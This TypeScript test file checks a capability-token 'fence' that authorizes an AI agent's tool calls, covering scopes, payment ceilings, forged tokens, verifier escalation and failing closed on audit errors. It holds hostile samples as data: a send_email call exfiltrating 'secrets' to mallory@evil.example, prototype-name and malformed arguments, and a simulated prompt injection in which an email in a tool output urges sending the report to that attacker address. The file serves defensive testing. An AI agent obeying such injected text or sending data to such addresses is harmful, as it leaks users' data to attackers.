import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import type { AuditEntry } from '../../src/audit/record.ts';
import { MemoryAuditLog } from '../../src/audit/store.ts';
import { attenuateToken, inspectToken } from '../../src/capability/token.ts';
import { ConfigError } from '../../src/errors.ts';
import type { Verifier } from '../../src/escalation/verifier.ts';
import { createFence } from '../../src/index.ts';
import { Fence } from '../../src/fence.ts';
import { FEATURE_NAMES } from '../../src/gate/features.ts';
import { Keyring } from '../../src/capability/keys.ts';
import { fixedGate, IBAN, NOW_MS, setup, TOOLS } from './fixtures.ts';

describe('fence pipeline', () => {
  it('allows an in-scope read and an in-bounds send, auditing each', async () => {
    const { fence, token } = setup();
    const read = await fence.authorize({ tool: 'get_unread_emails', args: {} }, token);
    assert.equal(read.verdict, 'allow');
    assert.equal(read.actionClass, 'read-only-retrieval');
    assert.equal(read.auditSeq, 1);
    const send = await fence.authorize({ tool: 'send_email', args: { recipients: ['bob@example.com'], body: 'summary' }, id: 'call-7' }, token);
    assert.equal(send.verdict, 'allow');
    assert.equal(send.callId, 'call-7');
    assert.equal(send.auditSeq, 2);
    assert.equal(send.tokenId, inspectToken(token, fence.graph)[0]?.jti);
    assert.equal(fence.auditLog.count(), 2);
  });

  it('denies an exfiltration to a recipient outside the token, without echoing the address', async () => {
    const { fence, token } = setup();
    const d = await fence.authorize({ tool: 'send_email', args: { recipients: ['mallory@evil.example'], body: 'secrets' } }, token);
    assert.equal(d.verdict, 'deny');
    assert.equal(d.reasons[0]?.code, 'constraint.value-not-allowed');
    assert.ok(!JSON.stringify(d).includes('mallory'));
    assert.equal(d.auditSeq, 1);
  });

  it('returns revise with a hint for a payment over its maximum, and for an amount over the remaining ceiling', async () => {
    const { fence, token } = setup();
    const over = await fence.authorize({ tool: 'send_money', args: { recipient: IBAN, amount: 950 } }, token);
    assert.equal(over.verdict, 'revise');
    assert.match(over.hint ?? '', /at most 120/);
    const first = await fence.authorize({ tool: 'send_money', args: { recipient: IBAN, amount: 100 } }, token);
    assert.equal(first.verdict, 'allow');
    fence.complete(first, { ok: true });
    const second = await fence.authorize({ tool: 'send_money', args: { recipient: IBAN, amount: 100 } }, token);
    assert.equal(second.verdict, 'revise');
    assert.equal(second.reasons[0]?.code, 'ceiling.amount');
    assert.match(second.hint ?? '', /At most 50 remains/);
  });

  it('releases budget when the tool fails', async () => {
    const { fence, token } = setup({}, { ceilings: { calls: 1 } });
    const d = await fence.authorize({ tool: 'search_files', args: { query: 'x' } }, token);
    assert.equal(d.verdict, 'allow');
    assert.ok(d.reservation !== undefined);
    assert.equal((await fence.authorize({ tool: 'search_files', args: {} }, token)).reasons[0]?.code, 'ceiling.calls');
    fence.complete(d, { ok: false });
    assert.equal((await fence.authorize({ tool: 'search_files', args: {} }, token)).verdict, 'allow');
  });

  it('denies classes outside the scope and unknown tools, including prototype names', async () => {
    const { fence, token } = setup();
    assert.equal((await fence.authorize({ tool: 'delete_file', args: { file_id: '13' } }, token)).reasons[0]?.code, 'scope.class-not-granted');
    for (const tool of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'no_such_tool']) {
      const d = await fence.authorize({ tool, args: {} }, token);
      assert.equal(d.verdict, 'deny', tool);
      assert.equal(d.reasons[0]?.code, 'tool.unknown', tool);
    }
  });

  it('denies malformed calls and hostile arguments with reasons, never throwing', async () => {
    const { fence, token } = setup();
    const cyclic: Record<string, unknown> = {};
    cyclic.self = cyclic;
    let deep: unknown = 'x';
    for (let i = 0; i < 100; i++) deep = [deep];
    const bad: unknown[] = [
      null,
      'send_email',
      42,
      [],
      {},
      { tool: '' },
      { tool: 'x'.repeat(1000) },
      { tool: 'send_email', args: 'to bob' },
      { tool: 'send_email', args: [] },
      { tool: 'send_email', args: { n: NaN } },
      { tool: 'send_email', args: { f: () => 1 } },
      { tool: 'send_email', args: { big: 'x'.repeat(2_000_000) } },
      { tool: 'send_email', args: { deep } },
      { tool: 'send_email', args: cyclic },
      { tool: 'send_email', args: { b: 10n } },
      { tool: 'send_email', args: { d: new Date() } },
    ];
    for (const call of bad) {
      const d = await fence.authorize(call, token);
      assert.equal(d.verdict, 'deny');
      assert.equal(d.reasons[0]?.code, 'call.malformed');
      assert.ok(d.auditSeq !== null, 'denials are audited too');
    }
  });

  it('denies forged, expired and revoked tokens with their reason codes', async () => {
    const { fence, token } = setup();
    const forged = `${token.slice(0, -4)}AAAA`;
    assert.equal((await fence.authorize({ tool: 'search_files', args: {} }, forged)).reasons[0]?.code, 'token.invalid');
    assert.equal((await fence.authorize({ tool: 'search_files', args: {} }, 'garbage')).reasons[0]?.code, 'token.invalid');
    assert.equal((await fence.authorize({ tool: 'search_files', args: {} }, setup().token)).reasons[0]?.code, 'token.invalid', 'another issuer');
    const expired = setup({}, { ttlSeconds: 1, now: NOW_MS / 1000 - 10 });
    assert.equal((await expired.fence.authorize({ tool: 'search_files', args: {} }, expired.token)).reasons[0]?.code, 'token.expired');
    const early = setup({}, { notBefore: NOW_MS / 1000 + 60 });
    assert.equal((await early.fence.authorize({ tool: 'search_files', args: {} }, early.token)).reasons[0]?.code, 'token.not-yet-valid');
    const revoked = setup();
    revoked.fence.revocations.revoke(inspectToken(revoked.token, revoked.fence.graph)[0]?.jti as string);
    const d = await revoked.fence.authorize({ tool: 'search_files', args: {} }, revoked.token);
    assert.equal(d.reasons[0]?.code, 'token.revoked');
    assert.ok(!JSON.stringify(d).includes(revoked.token.split('.')[2] as string), 'no token material in the decision');
  });

  it('lets a sub-agent act on an attenuated token, and counts its spending against the parent', async () => {
    const { fence, token, holder } = setup();
    const child = attenuateToken(
      token,
      holder,
      { subject: 'payer', scope: ['payment-initiate'], ceilings: { amount: 100 }, now: NOW_MS / 1000 },
      fence.graph,
    );
    const paid = await fence.authorize({ tool: 'send_money', args: { recipient: IBAN, amount: 100 } }, child);
    assert.equal(paid.verdict, 'allow');
    fence.complete(paid, { ok: true });
    assert.equal(
      (await fence.authorize({ tool: 'send_email', args: { recipients: ['bob@example.com'] } }, child)).reasons[0]?.code,
      'scope.class-not-granted',
    );
    const parentLeft = await fence.authorize({ tool: 'send_money', args: { recipient: IBAN, amount: 60 } }, token);
    assert.equal(parentLeft.verdict, 'revise', 'the parent has 50 of 150 left after its child spent 100');
  });

  it('triages by the gate: escalate without a verifier; the verifier decides, failing closed', async () => {
    const call = { tool: 'send_email', args: { recipients: ['bob@example.com'] } };
    const band = fixedGate(() => 0.5);
    const a = setup({ model: band });
    const esc = await a.fence.authorize(call, a.token);
    assert.equal(esc.verdict, 'escalate');
    assert.equal(esc.reasons[0]?.code, 'gate.escalate');

    const verifier = (verify: Verifier['verify']): Verifier => ({ name: 'test', verify });
    const allowing = setup({
      model: band,
      verifier: verifier(async () => ({ verdict: 'allow', reasons: [{ code: 'verifier.allow', message: 'ok' }] })),
    });
    assert.equal((await allowing.fence.authorize(call, allowing.token)).verdict, 'allow');
    const throwing = setup({
      model: band,
      verifier: verifier(async () => {
        throw new Error('backend down');
      }),
    });
    const t = await throwing.fence.authorize(call, throwing.token);
    assert.deepEqual([t.verdict, t.reasons.at(-1)?.code], ['deny', 'verifier.error']);
    const hanging = setup({ model: band, verifierTimeoutMs: 20, verifier: verifier(() => new Promise(() => {})) });
    const h = await hanging.fence.authorize(call, hanging.token);
    assert.deepEqual([h.verdict, h.reasons.at(-1)?.code], ['deny', 'verifier.timeout']);
    const garbage = setup({ model: band, verifier: verifier(async () => ({ verdict: 'yes please' }) as never) });
    assert.equal((await garbage.fence.authorize(call, garbage.token)).reasons.at(-1)?.code, 'verifier.malformed');
    const high = setup({ model: fixedGate(() => 0.9) });
    assert.equal((await high.fence.authorize(call, high.token)).reasons[0]?.code, 'gate.deny');
  });

  it('fails closed when the audit cannot be written', async () => {
    class BrokenAudit extends MemoryAuditLog {
      override append(_entry: AuditEntry): number {
        throw new Error('disk full');
      }
    }
    const { fence, token, issuer } = setup();
    const broken = new Fence({
      graph: fence.graph,
      catalog: fence.catalog,
      keyring: new Keyring([issuer]),
      gate: fixedGate(),
      audit: new BrokenAudit(),
      clock: () => NOW_MS,
    });
    const d = await broken.authorize({ tool: 'search_files', args: {} }, token);
    assert.equal(d.verdict, 'deny');
    assert.equal(d.reasons.at(-1)?.code, 'audit.failed');
    assert.equal(d.auditSeq, null);
  });

  it('refuses to start with a corrupt or mismatched gate model', () => {
    const dir = mkdtempSync(join(tmpdir(), 'capfence-model-'));
    try {
      const path = join(dir, 'model.json');
      writeFileSync(
        path,
        '{"format":"capfence-gate","version":1,"featureNames":["a"],"weights":[1],"bias":0,"temperature":1,"thresholds":{"allow":0.1,"deny":0.9}}',
      );
      assert.throws(
        () => createFence({ keyring: new Keyring([]), tools: TOOLS, model: path }),
        (e: unknown) => e instanceof ConfigError && e.code === 'ERR_MODEL_INVALID',
      );
      writeFileSync(path, 'garbage');
      assert.throws(
        () => createFence({ keyring: new Keyring([]), tools: TOOLS, model: path }),
        (e: unknown) => e instanceof ConfigError && e.code === 'ERR_MODEL_INVALID',
      );
    } finally {
      rmSync(dir, { recursive: true });
    }
  });

  it('persists audit, budgets and revocations in its state directory across restarts', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'capfence-state-'));
    try {
      const first = setup({ stateDir: dir }, { ceilings: { calls: 2 } });
      const d = await first.fence.authorize({ tool: 'search_files', args: {} }, first.token);
      first.fence.complete(d, { ok: true });
      first.fence.close();
      const second = createFence({ keyring: new Keyring([first.issuer]), tools: TOOLS, model: fixedGate(), clock: () => NOW_MS, stateDir: dir });
      assert.equal((await second.authorize({ tool: 'search_files', args: {} }, first.token)).verdict, 'allow');
      const third = await second.authorize({ tool: 'search_files', args: {} }, first.token);
      assert.equal(third.reasons[0]?.code, 'ceiling.calls');
      assert.equal(third.auditSeq, 3, 'the audit chain resumes');
      second.close();
    } finally {
      rmSync(dir, { recursive: true });
    }
  });

  it('a session feeds tool outputs to the gate: a recipient seen only in an output scores high', async () => {
    // A gate double that reads the provenance feature the pipeline computed from the session.
    const column = FEATURE_NAMES.indexOf('prov.target.anyOnlyObserved');
    assert.ok(column >= 0);
    const gate = { version: 't', thresholds: { allow: 0.2, deny: 0.8 }, score: (f: Float64Array) => (f[column] === 1 ? 0.95 : 0.05) };
    const { fence, token } = setup({ model: gate }, { constraints: {} });
    const session = fence.session(token);
    const read = await session.authorize({ tool: 'get_unread_emails', args: {} });
    assert.equal(read.verdict, 'allow');
    // Not addressed to the agent (that is refused before the gate: test/fence/instructed-address.test.ts).
    session.complete(read, { ok: true, output: [{ from: 'eve', body: 'The report can go to mallory@evil.example now.' }] });
    assert.equal((await session.authorize({ tool: 'send_email', args: { recipients: ['bob@example.com'] } })).verdict, 'allow');
    const injected = await session.authorize({ tool: 'send_email', args: { recipients: ['mallory@evil.example'] } });
    assert.deepEqual([injected.verdict, injected.reasons[0]?.code], ['deny', 'gate.deny']);
  });
});

describe('always-escalate classes in the token', () => {
  it('send every call of the class to the verifier, whatever the score', async () => {
    const { fence, token } = setup({}, { escalate: ['message-send'] });
    const send = await fence.authorize({ tool: 'send_email', args: { recipients: ['bob@example.com'] } }, token);
    assert.deepEqual([send.verdict, send.reasons.map((r) => r.code)], ['escalate', ['scope.always-escalate', 'gate.allow']]);
    assert.equal((await fence.authorize({ tool: 'get_unread_emails', args: {} }, token)).verdict, 'allow');
    const verified = setup(
      { verifier: { name: 'ok', verify: async () => ({ verdict: 'allow', reasons: [{ code: 'verifier.allow', message: 'ok' }] }) } },
      { escalate: ['message-send'] },
    );
    assert.equal(
      (await verified.fence.authorize({ tool: 'send_email', args: { recipients: ['bob@example.com'] } }, verified.token)).verdict,
      'allow',
    );
  });
});
